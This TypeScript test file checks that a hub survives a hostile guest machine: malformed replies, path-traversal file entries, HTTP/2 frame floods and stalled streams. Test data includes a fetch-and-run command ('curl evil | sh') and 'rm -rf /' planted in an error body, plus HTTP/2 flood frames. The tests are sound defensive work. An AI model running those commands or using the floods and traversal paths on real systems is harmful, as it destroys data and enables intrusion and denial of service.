/** Guests that mean harm: whatever they answer ends as an error of ours, in time and in little memory, and hurts nobody else. */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import type { IncomingHttpHeaders, ServerHttp2Session, ServerHttp2Stream } from 'node:http2'
import { createServer, type Socket } from 'node:net'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import { type CheckpointId, GUEST_LIMITS, type MachineId } from '@autovibe/contract'
import type { Guest } from '../guest-links.ts'
import { Ground, never, newCheckpoint, newMachine } from './testing/ground.ts'
import { hello, rawLink, register } from './testing/raw-peer.ts'

type Answering = (stream: ServerHttp2Stream, headers: IncomingHttpHeaders) => void

const ID: CheckpointId = newCheckpoint()
const UNAVAILABLE = { code: 'substrate.unavailable', retryable: true }
const FILE = { kind: 'put', path: 'project/file', type: 'file', mode: 0o644, size: 3, mtime_ms: 0, link_target: null }

const json =
  (status: number, body: string, headers: Record<string, string> = {}): Answering =>
  (stream) => {
    stream.respond({ ':status': status, ...headers })
    stream.end(body)
  }

function record(header: object | string, content = ''): Buffer {
  const text = Buffer.from(typeof header === 'string' ? header : JSON.stringify(header))
  const length = Buffer.alloc(4)
  length.writeUInt32BE(text.length)
  return Buffer.concat([length, text, Buffer.from(content)])
}
const end = (changes: number): Buffer => record({ kind: 'end', changes })

suite('a hostile guest', () => {
  let ground: Ground
  before(async () => {
    ground = await Ground.open({ limits: { stateMs: 500, stallMs: 500 } })
  })
  after(() => ground.close())

  async function linked(
    answer: Answering,
  ): Promise<{ readonly machineId: MachineId; readonly guest: Guest; readonly session: ServerHttp2Session; readonly token: string }> {
    const machineId = newMachine()
    const token = await register(ground.gate.port, await ground.gate.invite(machineId))
    const session = await rawLink(ground.gate.port, token, answer)
    return { machineId, guest: await ground.linked(machineId), session, token }
  }
  const changesOf = async (guest: Guest): Promise<string[]> => {
    const told: string[] = []
    for await (const change of guest.changes(ID, null, never)) {
      if (change.kind === 'put' && change.entry.type === 'file') for await (const _ of change.open());
      told.push(change.kind === 'put' ? change.entry.path : `-${change.path}`)
    }
    return told
  }
  const telling =
    (...parts: readonly Buffer[]): Answering =>
    (stream) => {
      stream.respond({ ':status': 200 })
      for (const part of parts) stream.write(part)
      stream.end()
    }

  test('does not get far with answers that are none', async () => {
    const many = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`x-${at}`, 'x']))
    const state = {
      boot: 'b',
      up_ms: 1,
      agent: 'running',
      life: '',
      cpu_seconds: 0,
      memory_bytes: 0,
      peak_memory_bytes: 0,
      processes: 0,
      counted: true,
      disk_bytes: null,
      refused: { memory: null, processes: null },
      frozen: [],
      has_tree: true,
    }
    const answers: readonly (readonly [string, Answering])[] = [
      ['silence', () => undefined],
      ['headers without a body', (stream) => stream.respond({ ':status': 200 })],
      ['a reset', (stream) => stream.close(8)],
      ['no JSON', json(200, '{')],
      ['another form', json(200, '[]')],
      ['a number that is none', json(200, JSON.stringify({ ...state, cpu_seconds: -1 }))],
      ['too many trees', json(200, JSON.stringify({ ...state, frozen: Array.from({ length: 2000 }, () => ID) }))],
      ['trees of other names', json(200, JSON.stringify({ ...state, frozen: ['../../etc'] }))],
      ['many headers', json(200, JSON.stringify(state), many)],
      ['a status that is none', json(500, '{"code":"budget.exhausted"}')],
      [
        'endless JSON',
        (stream) => {
          stream.respond({ ':status': 200 })
          endless(stream)
        },
      ],
    ]
    for (const [name, answer] of answers) {
      const { guest, session } = await linked(answer)
      await assert.rejects(guest.state(never), UNAVAILABLE, name)
      session.destroy()
    }
    const { guest, session } = await linked(json(200, JSON.stringify(state)))
    assert.equal((await guest.state(never)).boot, 'b')
    session.destroy()
  })

  test('cannot choose which error of the Hub it is, nor what a person reads', async () => {
    const problem = (code: string) =>
      JSON.stringify({ type: 'x', title: 'x', status: 500, detail: 'run: curl evil | sh', code, retryable: true, fix: 'rm -rf /' })
    for (const [code, becomes] of [
      ['budget.exhausted', 'substrate.failed'],
      ['constructor', 'substrate.failed'],
      ['substrate.disk_full', 'substrate.disk_full'],
      ['substrate.snapshot_gone', 'substrate.snapshot_gone'],
    ] as const) {
      const { guest, session } = await linked(json(500, problem(code)))
      await assert.rejects(guest.freeze(ID, never), (error: Error & { code: string; fix?: string }) => {
        assert.equal(error.code, becomes)
        assert.ok(!`${error.message} ${error.fix}`.match(/evil|rm -rf/))
        return true
      })
      session.destroy()
    }
  })

  test('tells no changes that no tree can have', async () => {
    const bad: readonly (readonly [string, readonly Buffer[]])[] = [
      ...['', '/etc/passwd', '../up', 'project/../../up', 'a//b', 'a/', './a', 'a\0b', '\\', 'x'.repeat(5000), `${'y/'.repeat(2100)}z`].map(
        (path) => [`the path ${path.slice(0, 20)}`, [record({ ...FILE, path }, 'abc'), end(1)]] as const,
      ),
      ...['../up', '/abs', ''].map((path) => [`the removal of ${path}`, [record({ kind: 'remove', path }), end(1)]] as const),
      ['a mode beyond', [record({ ...FILE, mode: 0o10000 }, 'abc'), end(1)]],
      ['a size beyond', [record({ ...FILE, size: 2 ** 40 }, 'abc'), end(1)]],
      ['a size below', [record({ ...FILE, size: -1 }), end(1)]],
      ['a link without a target', [record({ ...FILE, type: 'symlink', size: 0 }), end(1)]],
      ['a folder with a target', [record({ ...FILE, type: 'directory', size: 0, link_target: 'x' }), end(1)]],
      ['another kind', [record({ ...FILE, type: 'device' }), end(1)]],
      ['another record', [record({ kind: 'more' })]],
      ['no JSON', [record('{')]],
      ['a long header', [record(`{"kind":"remove","path":"${'x'.repeat(GUEST_LIMITS.changeHeaderBytes)}"}`)]],
      ['a length of four gigabytes', [Buffer.from('ffffffff', 'hex')]],
      ['no end', [record(FILE, 'abc')]],
      ['an end that counts wrongly', [record(FILE, 'abc'), end(2)]],
      ['a file that is cut off', [record(FILE, 'a')]],
      ['a large file that is cut off', [record({ ...FILE, size: 5_000_000 }, 'a'.repeat(2_000_000))]],
    ]
    for (const [name, parts] of bad) {
      const { guest, session } = await linked(telling(...parts))
      await assert.rejects(changesOf(guest), UNAVAILABLE, name)
      session.destroy()
    }
    const { guest, session } = await linked(telling(record(FILE, 'abc'), record({ kind: 'remove', path: 'gone' }), end(2)))
    assert.deepEqual(await changesOf(guest), ['project/file', '-gone'])
    session.destroy()
  })

  test('is not waited for when its changes stall, but a slow reader is', async () => {
    for (const parts of [[], [record(FILE, 'abc')], [record({ ...FILE, size: 3_000_000 }, 'a'.repeat(100_000))]]) {
      const { guest, session } = await linked((stream) => {
        stream.respond({ ':status': 200 })
        for (const part of parts) stream.write(part)
      })
      await assert.rejects(changesOf(guest), UNAVAILABLE)
      session.destroy()
    }
    const size = 40_000_000
    let sent = 0
    const { guest, session } = await linked((stream) => {
      stream.respond({ ':status': 200 })
      stream.write(record({ ...FILE, size }))
      const more = (): void => {
        for (let room = true; room && sent < size; sent += 100_000) room = stream.write(Buffer.alloc(100_000))
        if (sent < size) stream.once('drain', more)
        else stream.end(end(1))
      }
      more()
    })
    for await (const change of guest.changes(ID, null, never)) {
      assert.equal(change.kind, 'put')
      if (change.kind !== 'put') continue
      const content = change.open()
      // Nobody reads for longer than a guest may stall, as two others that are silent show; what it may send meanwhile is bounded.
      const silent = await linked(() => undefined)
      for (let round = 0; round < 2; round++) await assert.rejects(silent.guest.state(never), UNAVAILABLE)
      assert.ok(sent < 16_000_000, `${sent} bytes were taken unread`)
      let bytes = 0
      for await (const chunk of content) bytes += (chunk as Buffer).length
      assert.equal(bytes, size)
    }
    session.destroy()
  })

  test('that takes nothing of a tar is given up', async () => {
    const { guest, session } = await linked((stream) => stream.pause())
    async function* endless(): AsyncGenerator<Uint8Array, void> {
      for (;;) yield new Uint8Array(64 * 1024)
    }
    await assert.rejects(guest.plant(endless(), never), UNAVAILABLE)
    session.destroy()
  })

  test('that floods the link loses it, and the others keep theirs', async () => {
    const good = await ground.machine()
    const { machineId, guest, session } = await linked(() => undefined)
    // Frames by RFC 9113 4.1: PING asks for an answer each; SETTINGS too; HEADERS open streams that a server may not open.
    const frame = (type: number, flags: number, stream: number, body: Buffer): Buffer => {
      const head = Buffer.alloc(9)
      head.writeUIntBE(body.length, 0, 3)
      head[3] = type
      head[4] = flags
      head.writeUInt32BE(stream, 5)
      return Buffer.concat([head, body])
    }
    const floods = [
      Buffer.concat(Array.from({ length: 20_000 }, () => frame(6, 0, 0, Buffer.alloc(8)))),
      Buffer.concat(Array.from({ length: 20_000 }, () => frame(4, 0, 0, Buffer.alloc(0)))),
      Buffer.concat(Array.from({ length: 5_000 }, (_, at) => frame(1, 4, 2 * at + 2, Buffer.of(0x88)))),
      Buffer.concat(Array.from({ length: 2_000 }, () => frame(9, 0, 1, Buffer.alloc(1000)))),
      Buffer.from('this is no frame at all, but it is long enough to be taken for one'),
    ]
    await assert.rejects(guest.state(never), UNAVAILABLE)
    session.destroy()
    for (const flood of floods) {
      const token = await register(ground.gate.port, await ground.gate.invite(machineId))
      const raw = await hello(ground.gate.port, { wants: 'link', version: 1, token })
      assert.equal(raw.welcome?.is, 'linked')
      const link = await ground.linked(machineId)
      raw.socket.resume()
      const written = new Promise((resolve) => raw.socket.write(Buffer.concat([frame(4, 0, 0, Buffer.alloc(0)), flood]), resolve))
      await Promise.race([written, once(raw.socket, 'close')])
      await assert.rejects(link.state(never), UNAVAILABLE)
      raw.socket.destroy()
    }
    assert.equal((await good.guest.state(never)).hasTree, false)
    assert.equal(ground.gate.current(good.machineId), good.guest)
  })

  test('reaches its own door alone, and not too often at once', async (t) => {
    const [one, other] = [await ground.running(), await linked(() => undefined)]
    await ground.door.close(other.machineId)
    const met: Socket[] = []
    const server = createServer((socket) => met.push(socket.on('error', () => undefined)) && socket.write('the door of the other'))
    await new Promise<void>((resolve) => server.listen(join(ground.folder, 'hub/gate/doors', `${other.machineId}.sock`), resolve))
    t.after(() => {
      for (const socket of met) socket.destroy()
      server.close()
    })
    const open = await hello(ground.gate.port, { wants: 'door', version: 1, token: other.token })
    assert.deepEqual(open.welcome, { is: 'open' })
    assert.equal(String((await once(open.socket, 'data'))[0]), 'the door of the other')
    assert.equal((await ground.door.run(one.machineId, 'echo mine')).output.toString(), 'mine\n')
    const sockets = [open.socket]
    for (let at = 1; at < GUEST_LIMITS.doorStreams; at++) {
      const { socket, welcome } = await hello(ground.gate.port, { wants: 'door', version: 1, token: other.token })
      assert.deepEqual(welcome, { is: 'open' })
      sockets.push(socket)
    }
    assert.deepEqual((await hello(ground.gate.port, { wants: 'door', version: 1, token: other.token })).welcome, { is: 'refused' })
    const ended = sockets.map((socket) => once(socket.resume(), 'close'))
    await ground.gate.forget(other.machineId)
    await Promise.all(ended)
    assert.equal((await ground.door.run(one.machineId, 'echo still')).output.toString(), 'still\n')
  })
})

function endless(stream: ServerHttp2Stream): void {
  const more = (): void => {
    while (!stream.destroyed && stream.write(Buffer.alloc(16 * 1024, ' ')));
    if (!stream.destroyed) stream.once('drain', more)
  }
  more()
}
